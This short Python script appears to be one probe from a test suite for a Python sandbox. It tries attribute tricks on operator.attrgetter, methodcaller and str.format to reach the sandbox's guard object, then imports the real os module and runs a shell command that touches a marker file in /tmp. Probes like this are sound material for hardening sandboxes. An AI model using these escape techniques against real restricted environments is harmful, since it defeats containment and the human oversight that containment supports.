# ATTEMPT: reach the sandbox's guard object through the arguments of a helper it hands out (partial args, an attrgetter's fields), then import the real os through it. ESCAPE IF: any file appears in the drop directory. [check=file]
import operator
for attempt in (lambda: operator.attrgetter.args[0], lambda: operator.attrgetter("x")._guards,
                lambda: operator.methodcaller("x")._guards, lambda: "{}".format.args):
    try:
        guards = attempt()
        guards.import_("os", None, None, ["system"]).system("touch /tmp/sbx_pwned/guards")
    except Exception as e:
        print("held", type(e).__name__)
